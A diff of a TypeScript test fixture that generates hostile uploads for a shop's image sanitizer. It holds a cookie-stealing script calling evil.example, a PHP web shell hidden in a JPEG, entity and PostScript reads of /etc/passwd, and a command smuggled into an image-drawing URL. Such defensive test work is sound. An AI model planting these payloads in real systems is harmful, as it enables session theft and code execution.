@@ -1,18 +1,13 @@
 import { randomBytes } from 'node:crypto'
-import { crc32, deflateSync, gzipSync } from 'node:zlib'
+import { deflateSync, gzipSync } from 'node:zlib'
 import sharp from 'sharp'
+import { chunk, hidden, noise, notPictures, plain, pngOf, svg } from '../../../tests/catalog/pictures.ts'
 
 /** What no picture of the shop may hold once it is kept. */
-export const secrets = ['<script', 'SECRET-OF-THE-SENDER', 'PK\u0003\u0004', '<?php', 'x:xmpmeta']
+export const secrets = ['<script', hidden.secret, 'PK\u0003\u0004', '<?php', 'x:xmpmeta']
 
-const script = '<script>fetch("//evil.example?"+document.cookie)</script>'
-const secret = 'SECRET-OF-THE-SENDER'
-const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">${script}<image href="http://127.0.0.1:1/x"/></svg>`
+const { script, secret } = hidden
 
-const plain = (width = 60, height = 40) =>
-  sharp({ create: { width, height, channels: 3, background: '#b4232c' } })
-const noise = (width: number, height: number) =>
-  sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } })
 const text = (content: string) => Buffer.from(content, 'latin1')
 const then = (picture: Buffer, more: string | Buffer) =>
   Buffer.concat([picture, typeof more === 'string' ? text(more) : more])
@@ -28,12 +23,8 @@ export async function hostileFiles(): Promise<Record<string, Buffer>> {
   )
   const animated = sharp(frames, { join: { animated: true } })
   return {
-    'an SVG with a script': text(svg),
-    'an SVG behind an XML head and an entity': text(
-      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`,
-    ),
+    ...(await made(notPictures)),
     'an SVG in gzip': gzipSync(svg),
-    HTML: text(`<!doctype html>${script}`),
     'HTML behind the head of a GIF': text(`GIF89a${script}`),
     'a GIF that is JavaScript as well': then(
       text('GIF89a/*'),
@@ -54,7 +45,6 @@ export async function hostileFiles(): Promise<Record<string, Buffer>> {
     'a PNG of no width': pngOf(0, 10, 100),
     'a PNG with wrong sums': Buffer.from(png.map((byte, at) => (at === 30 ? byte ^ 255 : byte))),
     'half a PNG': (await noise(200, 200).png().toBuffer()).subarray(0, 60_000),
-    'a head of a PNG': png.subarray(0, 8),
     'a JPEG with PHP behind it': then(jpeg, `<?php system($_GET[0]); ?>${secret}`),
     'a JPEG with a script as its comment': Buffer.concat([
       jpeg.subarray(0, 2),
@@ -66,7 +56,6 @@ export async function hostileFiles(): Promise<Record<string, Buffer>> {
       .withExif({ IFD0: { Copyright: secret }, IFD3: { GPSLatitude: '51/1 30/1 0/1', GPSLatitudeRef: 'N' } })
       .toBuffer(),
     'a JPEG that says 65,500 × 65,500': jpegSaying(jpeg, 65_500),
-    'half a JPEG': (await noise(300, 300).jpeg().toBuffer()).subarray(0, 9000),
     'an animated GIF of 1,500 frames': await manyFrames(gif, 1500),
     'an animated WebP': await animated.webp().toBuffer(),
     'a WebP with XMP': await plain()
@@ -74,48 +63,27 @@ export async function hostileFiles(): Promise<Record<string, Buffer>> {
       .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${script}</x:xmpmeta>`)
       .toBuffer(),
     'a WebP with a length of 4 GB': Buffer.concat([text('RIFF\xff\xff\xff\xffWEBPVP8 '), webp.subarray(16)]),
-    'a TIFF': await plain().tiff().toBuffer(),
     'a BMP': text(`BM${'\0'.repeat(60)}`),
     'a HEIC by its head': text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'),
-    'a PDF': text(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj`),
     PostScript: text('%!PS\n(/etc/passwd) (r) file'),
     'a drawing for another library': text(
       'push graphic-context\nviewbox 0 0 9 9\nfill "url(https://127.0.0.1/x|id)"\npop graphic-context',
     ),
-    'a ZIP': text(`PK\u0003\u0004${secret}`),
-    nothing: Buffer.alloc(0),
     'a zero byte': Buffer.alloc(1),
     '10 MB and one byte': then(png, Buffer.alloc(10 * 1024 * 1024 + 1 - png.length)),
     'two megabytes of noise': randomBytes(2 * 1024 * 1024),
   }
 }
 
-function chunk(type: string, data: Buffer): Buffer {
-  const body = Buffer.concat([Buffer.from(type), data])
-  const frame = Buffer.alloc(8 + body.length)
-  frame.writeUInt32BE(data.length, 0)
-  body.copy(frame, 4)
-  frame.writeUInt32BE(crc32(body), 4 + body.length)
-  return frame
+async function made(files: typeof notPictures): Promise<Record<string, Buffer>> {
+  return Object.fromEntries(
+    await Promise.all(Object.entries(files).map(async ([what, make]) => [what, await make()] as const)),
+  )
 }
 
 /** Chunks put behind the head of a PNG. */
 function withChunks(png: Buffer, chunks: readonly Buffer[]): Buffer {
   return Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)])
-}
-
-/** A PNG of one colour that says its size; its pixels pack to almost nothing. */
-function pngOf(width: number, height: number, bytes = Math.ceil(width / 8 + 1) * height): Buffer {
-  const head = Buffer.alloc(13)
-  head.writeUInt32BE(width, 0)
-  head.writeUInt32BE(height, 4)
-  head[8] = 1
-  return Buffer.concat([
-    Buffer.from('89504e470d0a1a0a', 'hex'),
-    chunk('IHDR', head),
-    chunk('IDAT', deflateSync(Buffer.alloc(Math.min(bytes, 100_000_000)), { level: 6 })),
-    chunk('IEND', Buffer.alloc(0)),
-  ])
 }
 
 function comment(words: string): Buffer {
